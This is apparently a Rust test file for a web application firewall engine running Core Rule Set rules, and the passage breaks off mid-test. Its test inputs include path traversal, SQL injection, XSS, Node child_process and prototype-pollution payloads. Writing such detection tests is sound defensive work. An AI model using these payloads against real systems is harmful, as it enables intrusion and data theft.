use std::path::Path;

use super::*;
use crate::request::{Exchange, ParseOptions};

fn crs(text: &str) -> Crs {
    Crs::load(&[("t.conf".to_owned(), text.to_owned())], Path::new(".")).unwrap()
}

fn get(uri: &str) -> Exchange {
    let (parts, ()) = http::Request::get(uri)
        .header("user-agent", "test")
        .body(())
        .unwrap()
        .into_parts();
    Exchange::from_request(&parts, b"", ParseOptions::default())
}

/// A GET of `uri` with one header.
fn get_with(uri: &str, name: &str, value: &str) -> Exchange {
    let (parts, ()) = http::Request::get(uri)
        .header(name, value)
        .body(())
        .unwrap()
        .into_parts();
    Exchange::from_request(&parts, b"", ParseOptions::default())
}

/// The ids of the logged matches.
fn logged(out: &CrsOutcome) -> Vec<u32> {
    out.matches
        .iter()
        .filter(|m| m.logged)
        .map(|m| m.id)
        .collect()
}

fn ids(crs: &Crs, uri: &str) -> Vec<u32> {
    logged(&crs.evaluate_request(&get(uri), "127.0.0.1"))
}

#[test]
fn tx_setvar_macros_chains_and_markers() {
    let rules = r#"
SecDefaultAction "phase:1,log,pass"
SecDefaultAction "phase:2,log,pass"
SecAction "id:1,phase:1,nolog,pass,setvar:tx.limit=5,setvar:tx.score=0"
SecRule ARGS "@rx attack" "id:10,phase:2,block,setvar:'tx.score=+%{tx.limit}',msg:'hit %{matched_var_name}'"
SecRule ARGS:a "@rx ^(\d+)$" "id:11,phase:2,capture,chain"
    SecRule TX:1 "@gt 5" "setvar:tx.score=+1"
SecRule TX:score "@lt 3" "id:12,phase:2,skipAfter:END"
SecRule ARGS "@unconditionalMatch" "id:13,phase:2"
SecMarker END
SecRule TX:score "@ge %{tx.limit}" "id:14,phase:2,deny,status:406"
"#;
    let c = crs(rules);
    // No match: 12 skips 13; 14 does not fire.
    assert_eq!(ids(&c, "/?a=1"), [12]);
    // 10 adds 5 (the macro), so 12 does not skip, 13 runs, 14 denies.
    let out = c.evaluate_request(&get("/?q=attack"), "127.0.0.1");
    let got: Vec<u32> = out.matches.iter().map(|m| m.id).collect();
    assert_eq!(got, [1, 10, 13, 14]);
    assert_eq!(out.status, Some(406));
    assert_eq!(out.matches[1].msg.as_deref(), Some("hit ARGS:q"));
    // The chain: a=9 captures 9 > 5.
    assert_eq!(ids(&c, "/?a=9"), [11, 12]);
    assert_eq!(ids(&c, "/?a=3"), [12]);
}

#[test]
fn exclusions_counts_and_ctl() {
    let rules = r#"
SecRule ARGS|!ARGS:safe "@rx x" "id:20,phase:1,log,pass"
SecRule &ARGS "@gt 2" "id:21,phase:1,log,pass"
SecRule ARGS:off "@streq 1" "id:22,phase:1,nolog,pass,ctl:ruleRemoveById=23,ctl:ruleRemoveTargetById=24;ARGS:b"
SecRule ARGS "@rx y" "id:23,phase:1,log,pass"
SecRule ARGS "@rx z" "id:24,phase:1,log,pass"
"#;
    let c = crs(rules);
    assert_eq!(ids(&c, "/?safe=x"), Vec::<u32>::new());
    assert_eq!(ids(&c, "/?a=x&b=1&c=2"), [20, 21]);
    assert_eq!(ids(&c, "/?a=y&b=z"), [23, 24]);
    // 22 removes rule 23 and the target ARGS:b of rule 24 (21 counts three arguments).
    assert_eq!(ids(&c, "/?off=1&a=y&b=z"), [21]);
    assert_eq!(ids(&c, "/?off=1&a=z"), [24]);
}

#[test]
fn load_errors_name_the_construct() {
    let e = |t: &str| {
        Crs::load(&[("x.conf".to_owned(), t.to_owned())], Path::new("."))
            .unwrap_err()
            .to_string()
    };
    assert!(e("SecRule ARGS \"@rx a\" \"phase:2\"").contains("needs an `id`"));
    assert!(e("SecRule ARGS \"@rx a\" \"id:1,exec:/bin/sh\"").contains("`exec` is not supported"));
    assert!(e("SecRule ARGS \"@nope a\" \"id:1\"").contains("nope"));
    assert!(e("SecRule FOO \"@rx a\" \"id:1\"").contains("`FOO`"));
    assert!(e("SecRule ARGS \"@rx a\" \"id:1,t:nope\"").contains("nope"));
    assert!(e("SecRule ARGS \"@rx a\" \"id:1,ctl:debugLogLevel=9\"").contains("ctl:debugLogLevel"));
    assert!(e("SecRule ARGS \"@rx a\" \"id:1,chain\"").contains("chain"));
    assert!(e("SecRule ARGS \"@rx (\" \"id:1\"").starts_with("x.conf:1: "));
}

#[test]
fn the_core_rule_set_loads() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let c = Crs::load_dir(&dir, "", "").unwrap_or_else(|e| panic!("{e}"));
    assert!(c.rule_count() > 600, "{}", c.rule_count());
}

#[test]
fn a_chained_rule_reads_what_its_parent_set() {
    let c = crs(r#"
SecRule ARGS "@rx ^(\w+)://" "id:30,phase:1,log,pass,capture,setvar:'tx.scheme_%{matched_var_name}=%{tx.1}',chain"
    SecRule TX:/^scheme_/ "@streq ftp" ""
"#);
    assert_eq!(ids(&c, "/?a=ftp://x"), [30]);
    assert_eq!(ids(&c, "/?a=http://x"), Vec::<u32>::new());
}

#[test]
fn raw_request_heads_are_inspected_as_sent() {
    use crate::request::RequestHead;
    let c = crs(r#"
SecRule ARGS "@rx <script" "id:40,phase:2,log,pass"
SecRule REQUEST_FILENAME "@streq /a b" "id:41,phase:1,log,pass"
SecRule REQUEST_PROTOCOL "!@rx ^HTTP/\d\.\d$" "id:42,phase:1,log,pass"
"#);
    let headers: Vec<(&str, &[u8])> = vec![("Host", b"x"), ("X-Odd Name", b"\x01")];
    let head = RequestHead {
        method: "GET",
        target: "http://x/a b?q=<script>alert(1)</script>",
        protocol: "JUNK/1.0",
        headers: &headers,
    };
    let ex = Exchange::from_head(&head, b"", ParseOptions::default());
    let got: Vec<u32> = c
        .evaluate_request(&ex, "127.0.0.1")
        .matches
        .iter()
        .map(|m| m.id)
        .collect();
    assert_eq!(got, [41, 42, 40]);
}

/// The plain-words shortcut agrees with libinjection: on pairs and triples of words drawn
/// from its keyword table (each word of every entry, in three cases), from its multi-word
/// entries' neighbours, and from ordinary words (with dots, digits and the letters of its
/// special strings), on five words and more, and on ordinary text it answers for.
#[test]
fn the_plain_words_shortcut_agrees_with_libinjection() {
    let full =
        |v: &[u8]| libinjectionrs::SqliState::new(v, libinjectionrs::SqliFlags::FLAG_NONE).detect();
    let mut words: Vec<String> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .flat_map(|k| k.word.split(' ').map(str::to_owned).collect::<Vec<_>>())
        .collect();
    words.extend(
        [
            "blue",
            "running",
            "shoes",
            "a",
            "b",
            "e",
            "n",
            "q",
            "u",
            "x",
            "messages.0.content",
            "json.max_tokens",
            "select.x",
            "x.select",
            "a.b.c",
            "assistant.",
            "N1",
            "x41",
            "user_id",
            "sleep5",
            "ORDER",
            "by",
            "group",
            "natural",
            "join",
            "in",
            "boolean",
            "mode",
            "sounds",
            "like",
            "is",
            "not",
            "null",
            "true",
        ]
        .map(String::from),
    );
    words.sort();
    words.dedup();
    let forms = |w: &str| [w.to_owned(), w.to_ascii_lowercase(), w.to_ascii_uppercase()];
    let mut next = crate::testing::xorshift(0x1234_5678_9abc_def1);
    // Half the words from the table, half made up: letters, with digits, `_` and dots.
    let pick = |n: u64| {
        if n.is_multiple_of(2) {
            return words[((n / 2) % words.len() as u64) as usize].clone();
        }
        let alphabet = b"abcdefghijklmnopqrstuvwxyzABEQNUX0123456789_.";
        let len = 1 + (n >> 8) % 9;
        let mut w = String::from(char::from(b"abenquxsoit"[((n >> 4) % 11) as usize]));
        for i in 1..len {
            w.push(char::from(
                alphabet[((n >> (12 + 3 * i)) % alphabet.len() as u64) as usize],
            ));
        }
        w
    };
    let (mut said, mut checked) = (0, 0);
    let mut check = |value: &str| {
        checked += 1;
        if exec::plain_words(value.as_bytes()) {
            said += 1;
            assert!(!full(value.as_bytes()), "libinjection flags `{value}`");
        }
    };
    for _ in 0..40_000 {
        let (a, b, c) = (pick(next()), pick(next()), pick(next()));
        let n = next() % 3;
        for (fa, fb) in forms(&a).into_iter().zip(forms(&b)) {
            match n {
                0 => check(&format!("{fa} {fb}")),
                1 => check(&format!("{fa} {fb} {c}")),
                _ => check(&format!("{fa}  {fb} {c} {a} {b} {c}")),
            }
        }
    }
    // Every neighbouring pair of each multi-word entry, with ordinary words around it.
    for k in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
        let parts: Vec<&str> = k.word.split(' ').collect();
        for pair in parts.windows(2) {
            for form in forms(&pair.join(" ")) {
                check(&form);
                check(&format!("blue {form}"));
                check(&format!("{form} shoes"));
            }
        }
    }
    for text in [
        "blue running shoes",
        "You are a helpful assistant.",
        "messages.0.content",
        "please keep it short",
    ] {
        assert!(exec::plain_words(text.as_bytes()), "{text}");
        assert!(!full(text.as_bytes()));
    }
    // Words libinjection reads otherwise are left to it, among them attacks of words alone.
    for v in [
        "1 union select 1",
        "x or 1",
        "a-b",
        "order by",
        "a, b",
        "select.1",
        "x 'y'",
    ] {
        assert!(!exec::plain_words(v.as_bytes()), "{v}");
    }
    for attack in [
        "x union select password from users",
        "a union all select b from c",
        "union all select null",
        "x having 1",
    ] {
        assert!(full(attack.as_bytes()) && !exec::plain_words(attack.as_bytes()));
    }
    // The keyword lookup gives every entry of the table, in any case, libinjection's answer.
    for k in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
        for form in forms(k.word) {
            let keyword = libinjectionrs::sqli::sqli_data::lookup_word(&form)
                != libinjectionrs::sqli::TokenType::Bareword;
            assert_eq!(crate::sqli::is_keyword(form.as_bytes()), keyword, "{form}");
        }
    }
    assert!(said > 20_000 && checked > 100_000, "{said} of {checked}");
}

/// The SQLi shortcut agrees with libinjection on every keyword of its table that it would
/// answer for (as written, lowercase and capitalised), on digit strings, and on words that
/// start like libinjection's special strings (`b'..'`, `n'..'`, `x'..'`, `u&'..'`, `q'..'`).
#[test]
fn the_sqli_shortcut_agrees_with_libinjection() {
    let full =
        |v: &[u8]| libinjectionrs::SqliState::new(v, libinjectionrs::SqliFlags::FLAG_NONE).detect();
    let mut checked = 0;
    let mut words: Vec<String> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .map(|k| k.word.to_owned())
        .collect();
    words.extend(
        [
            "0",
            "1",
            "007",
            "12345678901234567890",
            "b",
            "n",
            "x",
            "u",
            "q",
            "e",
            "bx01",
            "N1",
            "x41",
            "select1",
            "union_all",
            "sleep5",
            "ORDER",
            "or",
            "and",
            "xor",
            "div",
            "like",
            "null",
            "true",
            "a_very_long_identifier_of_more_than_32_chars_x",
        ]
        .map(String::from),
    );
    for word in &words {
        let capitalised: String = word
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect();
        for form in [word.clone(), word.to_ascii_lowercase(), capitalised] {
            if exec::one_plain_token(form.as_bytes()) {
                assert!(!full(form.as_bytes()), "libinjection flags `{form}`");
                checked += 1;
            }
        }
    }
    assert!(checked > 1000, "{checked}");
    // Values outside the shortcut still reach libinjection.
    for sqli in ["1 union select 1", "1' or '1'='1", "1union", "select.1"] {
        assert!(!exec::one_plain_token(sqli.as_bytes()));
    }
    assert!(exec::detect_sqli(b"1' or '1'='1"));
    assert!(!exec::one_plain_token(b"x-1"));
}

/// Every pipeline of two or more transformations has its prefix as a parent, so values go
/// through shared prefixes once; the CRS's pipelines are all covered.
#[test]
fn pipelines_know_their_prefixes() {
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let crs = Crs::load_dir(&dir, "", "").unwrap();
    assert_eq!(crs.parents.len(), crs.pipelines.len());
    let mut with_parent = 0;
    for (p, parent) in crs.pipelines.iter().zip(&crs.parents) {
        match (p.len(), parent) {
            (0 | 1, None) => {}
            (n, Some(parent)) if n >= 2 => {
                assert_eq!(&crs.pipelines[*parent as usize][..], &p[..n - 1]);
                with_parent += 1;
            }
            (n, parent) => panic!("pipeline of {n} with parent {parent:?}"),
        }
    }
    assert!(with_parent > 10, "{with_parent}");
    // And its skip, itself without its next-to-last transformation, when the rules have it.
    assert_eq!(crs.skips.len(), crs.pipelines.len());
    let mut with_skip = 0;
    for (p, skip) in crs.pipelines.iter().zip(&crs.skips) {
        let n = p.len();
        let want = (n >= 2).then(|| [&p[..n - 2], &p[n - 1..]].concat());
        let found = want.and_then(|w| crs.pipelines.iter().position(|q| q[..] == w[..]));
        assert_eq!(skip.map(|s| s as usize), found, "{p:?}");
        with_skip += usize::from(found.is_some());
    }
    assert!(with_skip > 5, "{with_skip}");
}

/// A pipeline whose next-to-last step leaves a value as it is takes its value from the
/// pipeline without that step: the rules see the same values either way.
#[test]
fn pipelines_skip_steps_that_leave_the_value_as_it_is() {
    let crs = crs(r#"
SecRule ARGS "@rx ^a b c$" "id:1,phase:2,pass,log,t:none,t:urlDecodeUni,t:cmdLine"
SecRule ARGS "@rx ^a b c$" "id:2,phase:2,pass,log,t:none,t:cmdLine"
SecRule ARGS "@rx ^a%20b$" "id:3,phase:2,pass,log,t:none,t:lowercase,t:cmdLine"
SecRule ARGS "@rx ^a b$" "id:4,phase:2,pass,log,t:none,t:urlDecodeUni,t:lowercase,t:cmdLine"
"#);
    // `urlDecodeUni` leaves "A B,C" as it is: both pipelines give "a b c".
    assert_eq!(ids(&crs, "/?q=A%20B,C"), vec![1, 2]);
    // Here it decodes: the first gives "a b c", the second keeps the "%20".
    assert_eq!(ids(&crs, "/?q=A%2520B,C"), vec![1]);
    // `lowercase` leaves "a%20b" as it is, `urlDecodeUni` does not.
    assert_eq!(ids(&crs, "/?q=a%2520b"), vec![3, 4]);
    assert_eq!(ids(&crs, "/?q=A%2520B"), vec![3, 4]);
    assert_eq!(ids(&crs, "/?q=a%20b"), vec![4]);
}

#[test]
fn a_long_value_shares_a_last_step_only_with_pipelines_that_give_it_the_same_input() {
    // Four pipelines end in `lowercase`; the steps before it decode differently, or not at
    // all. Values of 64 bytes and more have their last steps looked up, not run again.
    let crs = crs(r#"
SecRule ARGS "@rx <b>x</b>$" "id:1,phase:2,pass,log,t:none,t:urlDecodeUni,t:lowercase"
SecRule ARGS "@rx &lt;b&gt;x&lt;/b&gt;$" "id:2,phase:2,pass,log,t:none,t:lowercase"
SecRule ARGS "@rx <b>x</b>$" "id:3,phase:2,pass,log,t:none,t:htmlEntityDecode,t:lowercase"
SecRule ARGS "@rx %3cb%3ex%3c/b%3e$" "id:4,phase:2,pass,log,t:none,t:compressWhitespace,t:lowercase"
"#);
    let pad = "W".repeat(80);
    // Only `htmlEntityDecode` decodes the entities; the others leave the value as it was,
    // so their `lowercase` is one step on the raw value.
    assert_eq!(
        ids(&crs, &format!("/?q={pad}%26LT;B%26GT;X%26LT;/B%26GT;")),
        vec![2, 3]
    );
    // Only `urlDecodeUni` decodes "%3C"; `lowercase` of the raw value keeps it.
    assert_eq!(
        ids(&crs, &format!("/?q={pad}%253CB%253EX%253C/B%253E")),
        vec![1, 4]
    );
    // Short values are run step by step: the same answers.
    assert_eq!(ids(&crs, "/?q=%26LT;B%26GT;X%26LT;/B%26GT;"), vec![2, 3]);
    assert_eq!(ids(&crs, "/?q=%253CB%253EX%253C/B%253E"), vec![1, 4]);
}

#[test]
fn a_transaction_starts_from_none_of_the_last_ones_searches_or_matches() {
    // One thread's transactions share the memo's buffers: the collection unions of the
    // group searches and the buffers of matched variables. Neither may carry over.
    let crs = crs(r#"
SecRule ARGS "@rx select\s+\w+\s+from" "id:1,phase:2,pass,log"
SecRule ARGS "@rx <script" "id:2,phase:2,pass,log"
SecRule ARGS "@rx ^[a-z]+$" "id:3,phase:2,pass,log,msg:'%{MATCHED_VAR_NAME}=%{MATCHED_VAR}'"
SecRule ARGS_NAMES "@rx ^[a-z]+$" "id:4,phase:2,pass,nolog"
"#);
    let msgs = |uri: &str| {
        crs.evaluate_request(&get(uri), "127.0.0.1")
            .matches
            .iter()
            .filter(|m| m.logged)
            .map(|m| (m.id, m.msg.clone().unwrap_or_default()))
            .collect::<Vec<_>>()
    };
    assert_eq!(ids(&crs, "/?q=select+name+from+users"), vec![1]);
    assert_eq!(ids(&crs, "/?q=a+quiet+afternoon"), Vec::<u32>::new());
    assert_eq!(ids(&crs, "/?q=%3Cscript%3E"), vec![2]);
    assert_eq!(ids(&crs, "/?q=select+name+from+users"), vec![1]);
    // A long matched value and name, whose buffers the next match (rule 4) hands back,
    // then a short one in those buffers: the message shows the new value alone.
    let long = "abcdefghijklmnopqrstuvwxyz";
    assert_eq!(
        msgs(&format!("/?{long}={long}")),
        vec![(3, format!("ARGS:{long}={long}"))]
    );
    assert_eq!(msgs("/?a=xyz"), vec![(3, "ARGS:a=xyz".to_owned())]);
}

#[test]
fn key_regex_literals_are_needed_by_every_match() {
    use super::name_literal;
    let lit = |src: &str| name_literal(src).map(|l| (l.anchored, l.text.to_vec()));
    assert_eq!(
        lit("^header_name_920450_"),
        Some((true, b"header_name_920450_".to_vec()))
    );
    assert_eq!(
        lit("MULTIPART_HEADERS_CONTENT_TYPES_*"),
        Some((false, b"MULTIPART_HEADERS_CONTENT_TYPES".to_vec()))
    );
    assert_eq!(
        lit("paramcounter_.*"),
        Some((false, b"paramcounter_".to_vec()))
    );
    assert_eq!(lit("^ab"), None);
    assert_eq!(lit("abc|def"), None);
    assert_eq!(lit("(?i)abc"), None);
    assert_eq!(lit("ab\\dcd"), None);
    // The literal never turns away a name the regex matches.
    let names = [
        "header_name_920450_x-forwarded",
        "HEADER_NAME_920450_A",
        "xparamcounter_1",
        "multipart_headers_content_type",
        "multipart_headers_content_types_1",
        "other",
        "x__UTMz",
        "__utma",
    ];
    for src in [
        "^header_name_920450_",
        "MULTIPART_HEADERS_CONTENT_TYPES_*",
        "paramcounter_.*",
        "^abc?",
        "abcd{0,2}x",
        "__utm",
    ] {
        let re = regex_automata::meta::Regex::builder()
            .syntax(regex_automata::util::syntax::Config::new().case_insensitive(true))
            .build(src)
            .unwrap();
        let literal = name_literal(src);
        for name in names {
            if re.is_match(name) {
                assert!(
                    literal.as_ref().is_none_or(|l| l.admits(name.as_bytes())),
                    "{src} {name}"
                );
            }
            // A literal that is the whole regex decides alone: exactly as the regex.
            if let Some(l) = literal.as_ref().filter(|l| l.whole) {
                assert_eq!(l.admits(name.as_bytes()), re.is_match(name), "{src} {name}");
            }
        }
    }
    let whole = |src: &str| name_literal(src).map(|l| l.whole);
    assert_eq!(whole("^header_name_920450_"), Some(true));
    assert_eq!(whole("__utm"), Some(true));
    assert_eq!(whole("paramcounter_.*"), Some(false));
    assert_eq!(whole("^abcd?"), Some(false));
}

#[test]
fn setvar_runs_once_per_matched_value_with_its_captures() {
    // As CRS's 920450: one TX variable per header name, then a chain over them. The
    // restricted header is not the last one, so the last capture alone would miss it.
    let rules = r#"
SecAction "id:1,phase:1,nolog,pass,setvar:'tx.restricted=/proxy/ /lock-token/'"
SecRule REQUEST_HEADERS_NAMES "@rx ^.*$" "id:2,phase:1,log,pass,capture,t:none,t:lowercase,setvar:'tx.header_name_2_%{tx.0}=/%{tx.0}/',chain"
    SecRule TX:/^header_name_2_/ "@within %{tx.restricted}" "setvar:tx.hits=+1"
SecRule ARGS "@rx x" "id:3,phase:1,log,pass,setvar:tx.score=+2"
SecRule TX:score "@eq 4" "id:4,phase:1,log,pass"
"#;
    let c = crs(rules);
    let (parts, ()) = http::Request::get("/?a=x&b=xx&c=y")
        .header("proxy", "http://evil.example")
        .header("accept", "*/*")
        .body(())
        .unwrap()
        .into_parts();
    let ex = Exchange::from_request(&parts, b"", ParseOptions::default());
    let mut t = c.transaction(&ex, "127.0.0.1");
    t.run(1);
    assert_eq!(t.tx("hits"), Some(&b"1"[..]));
    assert_eq!(t.tx("header_name_2_proxy"), Some(&b"/proxy/"[..]));
    assert_eq!(t.tx("header_name_2_accept"), Some(&b"/accept/"[..]));
    // Two arguments match 3: its score counts twice.
    assert_eq!(t.tx("score"), Some(&b"4"[..]));
    let fired: Vec<u32> = t
        .finish()
        .matches
        .iter()
        .filter(|m| m.logged)
        .map(|m| m.id)
        .collect();
    assert_eq!(fired, [2, 3, 4]);
}

#[test]
fn a_capture_without_groups_sets_the_whole_match_and_clears_the_rest() {
    let rules = r#"
SecRule ARGS:a "@rx (x)(y?)" "id:1,phase:1,nolog,pass,capture"
SecRule ARGS:b "@rx x+" "id:2,phase:1,nolog,pass,capture"
"#;
    let c = crs(rules);
    let ex = get("/?a=xy&b=axxb");
    let mut t = c.transaction(&ex, "127.0.0.1");
    t.run(1);
    assert_eq!(t.tx("0"), Some(&b"xx"[..]));
    assert_eq!(t.tx("1"), None);
    assert_eq!(t.tx("2"), None);
    let ex = get("/?a=xy");
    let mut t = c.transaction(&ex, "127.0.0.1");
    t.run(1);
    assert_eq!(t.tx("0"), Some(&b"xy"[..]));
    assert_eq!(t.tx("2"), Some(&b"y"[..]));
}

#[test]
fn a_whole_line_pattern_decides_as_its_regex_does() {
    // `^.*$` (920450's) is decided without the regex; `^(?:.*)$` is the same pattern, left to
    // the regex. Both must match, capture and miss alike, line feeds and odd bytes included:
    // on an argument (searched by its group first) and on a `TX` variable (tested directly).
    let rules = r#"
SecRule ARGS:v "@unconditionalMatch" "id:9,phase:1,nolog,pass,setvar:'tx.v=%{MATCHED_VAR}'"
SecRule TX:v "@rx ^.*$" "id:1,phase:1,log,pass,capture,setvar:'tx.fast=[%{tx.0}]'"
SecRule TX:v "@rx ^(?:.*)$" "id:2,phase:1,log,pass,capture,setvar:'tx.slow=[%{tx.0}]'"
SecRule TX:v "!@rx ^.*$" "id:3,phase:1,log,pass"
SecRule TX:v "!@rx ^(?:.*)$" "id:4,phase:1,log,pass"
SecRule ARGS:v "@rx ^.*$" "id:5,phase:1,log,pass,capture,setvar:'tx.fast_arg=[%{tx.0}]'"
SecRule ARGS:v "@rx ^(?:.*)$" "id:6,phase:1,log,pass,capture,setvar:'tx.slow_arg=[%{tx.0}]'"
SecRule ARGS:v "!@rx ^.*$" "id:7,phase:1,log,pass"
SecRule ARGS:v "!@rx ^(?:.*)$" "id:8,phase:1,log,pass"
"#;
    let c = crs(rules);
    let whole = |id: u32| {
        c.rules
            .iter()
            .filter(|r| r.id == id)
            .flat_map(|r| &r.links)
            .all(|l| l.whole_line)
    };
    assert!(whole(1) && whole(3) && whole(5) && whole(7));
    assert!(!whole(2) && !whole(4) && !whole(6) && !whole(8));
    let cases = [
        ("", true),
        ("abc", true),
        ("a%0db", true),
        ("%ff%fe%00", true),
        ("a%0ab", false),
        ("%0a", false),
        ("tail%0a", false),
        ("%0ahead", false),
    ];
    for (value, matches) in cases {
        let ex = get(&format!("/?v={value}"));
        let mut t = c.transaction(&ex, "127.0.0.1");
        t.run(1);
        assert_eq!(t.tx("fast"), t.tx("slow"), "{value}");
        assert_eq!(t.tx("fast").is_some(), matches, "{value}");
        assert_eq!(t.tx("fast_arg"), t.tx("slow_arg"), "{value}");
        assert_eq!(t.tx("fast_arg"), t.tx("fast"), "{value}");
        let fired = logged(&t.finish());
        let expected: &[u32] = if matches {
            &[1, 2, 5, 6]
        } else {
            &[3, 4, 7, 8]
        };
        assert_eq!(fired, expected, "{value}");
    }
}

#[test]
fn a_named_member_is_decided_by_its_own_search() {
    // Both patterns share a group over the request headers: the rule that reads one header
    // matches only when that header matches, whichever order the group is searched in.
    let c = crs(r#"
SecRule REQUEST_HEADERS:Range "@rx bytes=" "id:1,phase:1,pass,log"
SecRule REQUEST_HEADERS "@rx bytes=" "id:2,phase:1,pass,log"
SecRule REQUEST_HEADERS:/^x-/ "@rx bytes=" "id:3,phase:1,pass,log"
"#);
    let fired = |name: &str| {
        let ex = get_with("/", name, "bytes=0-1");
        let ids = logged(&c.evaluate_request(&ex, "127.0.0.1"));
        assert_eq!(
            c.evaluate_request(&ex, "127.0.0.1"),
            without_prelude(&c, &ex)
        );
        ids
    };
    assert_eq!(fired("x-other"), [2, 3]);
    assert_eq!(fired("range"), [1, 2]);
    assert_eq!(fired("accept"), [2]);
}

#[test]
fn multi_match_tests_the_value_before_and_after_each_change() {
    let c = crs(r#"
SecAction "id:9,phase:1,nolog,pass,setvar:tx.v=ABC"
SecRule ARGS "@rx <script" "id:1,phase:1,pass,log,multiMatch,t:none,t:urlDecode,t:lowercase,msg:'%{matched_var}'"
SecRule ARGS "@rx ^ABC$" "id:2,phase:1,pass,log,multiMatch,t:lowercase"
SecRule ARGS "@rx ^ABC$" "id:3,phase:1,pass,log,t:lowercase"
SecRule ARGS "!@rx ^abc$" "id:4,phase:1,pass,log,multiMatch,t:lowercase"
SecRule TX:v "@rx ^ABC$" "id:5,phase:1,pass,log,multiMatch,t:lowercase"
SecRule ARGS "@rx ^a b$" "id:6,phase:1,pass,log,multiMatch,t:urlDecode,t:removeWhitespace"
"#);
    let run = |uri: &str| {
        let out = c.evaluate_request(&get(uri), "127.0.0.1");
        let ids = logged(&out);
        let msg = out
            .matches
            .iter()
            .find(|m| m.id == 1)
            .and_then(|m| m.msg.clone());
        (ids, msg)
    };
    // Seen only after both decoding and lowercasing; MATCHED_VAR is that value.
    assert_eq!(
        run("/?a=%253CScript"),
        (vec![1, 4, 5], Some("<script".to_owned()))
    );
    // The value as sent matches before `lowercase` changes it.
    assert_eq!(run("/?a=ABC").0, [2, 4, 5]);
    // A middle step: `urlDecode` makes `a b`, which `removeWhitespace` then changes.
    assert_eq!(run("/?a=a%2520b").0, [4, 5, 6]);
    assert_eq!(run("/?a=abc").0, [5]);
    // (The grouped links are decided by their group bits, which read every stage.)
    let prefiltered: Vec<u32> = c
        .rules
        .iter()
        .filter(|r| r.links.iter().all(|l| l.prefilter))
        .map(|r| r.id)
        .collect();
    assert_eq!(prefiltered, [1, 2, 3, 5, 6]);
}

#[test]
fn grouped_multi_match_and_libinjection_links_decide_as_their_own_tests_do() {
    // A `multiMatch` link's group bit reads the raw value and every stage, and the
    // `@detectSQLi` / `@detectXSS` links are decided by their groups' libinjection verdicts:
    // the rule set with the bits deciding must fire exactly the rules it fires when every
    // such link is tested on its own (stage by stage), without gates, and so again with the
    // verdicts the thread keeps for headers.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let c = Crs::load_dir(&dir, "", "").unwrap();
    let mut own = c.clone();
    for link in own.rules.iter_mut().flat_map(|r| r.links.iter_mut()) {
        if link.multi_match {
            link.prefilter = false;
        }
        if matches!(link.op, super::Op::DetectSqli | super::Op::DetectXss) {
            link.prefilter = false;
            link.slot = None;
        }
    }
    let uris = [
        "/?q=blue+shoes&page=2",
        "/?q=Could+you+summarise+this+text+for+me%3F",
        "/?a=..%2f..%2fetc%2fpasswd",
        "/?a=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
        "/?a=%252e%252e%252fboot.ini",
        // base64 of `eval("alert(1)")`: seen only after `base64Decode`.
        "/?c=ZXZhbCgiYWxlcnQoMSkiKQ==",
        "/?c=process.mainModule.require(%27child_process%27)",
        "/?p=__proto__%5Bx%5D=1",
        "/?p=constructor%5Bprototype%5D",
        "/?w=while(true)%7B%7D",
        "/?id=1%27%20or%201=1--",
        "/?id=1%20union%20select%20password%20from%20users",
        // SQL seen only once `urlDecodeUni` has decoded it again.
        "/?id=1%2527%2520or%25201=1--",
        "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?x=%3Cimg%20src=x%20onerror=alert(1)%3E",
    ];
    let headers = [
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("User-Agent", "1' or '1'='1' --"),
        ("Referer", "http://example.com/<script>alert(1)</script>"),
        ("Cookie", "session=1' union select 1,2--"),
    ];
    let mut exchanges: Vec<(String, Exchange)> =
        uris.iter().map(|u| ((*u).to_owned(), get(u))).collect();
    for (name, value) in headers {
        exchanges.push((format!("{name}: {value}"), get_with("/", name, value)));
    }
    let mut fired = std::collections::BTreeSet::new();
    for round in 0..2 {
        for (what, ex) in &exchanges {
            let grouped = c.evaluate_request(ex, "127.0.0.1");
            assert_eq!(grouped, without_prelude(&own, ex), "round {round}: {what}");
            fired.extend(grouped.matches.iter().map(|m| m.id));
        }
    }
    for id in [930110, 934100, 934130, 941100, 942100] {
        assert!(fired.contains(&id), "{id} never fired: {fired:?}");
    }
}

/// The outcome of running `ex` without the load-time prelude (every rule from the first
/// step) and without the gates (every rule evaluated).
fn without_prelude(c: &Crs, ex: &Exchange) -> CrsOutcome {
    let mut ungated = c.clone();
    ungated.gates = Default::default();
    let mut t = ungated.transaction(ex, "127.0.0.1");
    t.fresh = false;
    t.run(1);
    t.run(2);
    t.finish()
}

/// Checks that `c` decides each of `uris` the same with and without its prelude and gates.
fn same_without_prelude(c: &Crs, uris: &[&str]) {
    for uri in uris {
        let ex = get(uri);
        assert_eq!(
            c.evaluate_request(&ex, "127.0.0.1"),
            without_prelude(c, &ex),
            "{uri}"
        );
    }
}

/// The gate of rule `id`'s step.
fn gate_of(c: &Crs, id: u32) -> gate::Gate {
    c.phases
        .iter()
        .zip(&c.gates)
        .find_map(|(steps, gates)| {
            let at = steps
                .iter()
                .position(|s| matches!(s, Step::Rule(r) if c.rules[*r].id == id))?;
            gates.get(at).copied()
        })
        .unwrap()
}

#[test]
fn rules_that_cannot_match_are_passed_over_by_their_gates() {
    let rules = r#"
SecDefaultAction "phase:1,log,pass"
SecDefaultAction "phase:2,log,pass"
SecAction "id:1,phase:1,nolog,pass,setvar:tx.pl=1,setvar:tx.mode=on,setvar:tx.made_xx=0"
SecRule ARGS:set "@rx ." "id:2,phase:1,pass,nolog,setvar:tx.mode=%{matched_var}"
SecRule ARGS:cap "@rx (x+)" "id:3,phase:1,pass,nolog,capture,setvar:tx.made_%{tx.1}=1"
SecRule ARGS:rm "@rx ." "id:4,phase:1,pass,nolog,ctl:ruleRemoveTargetById=10;TX:pl"
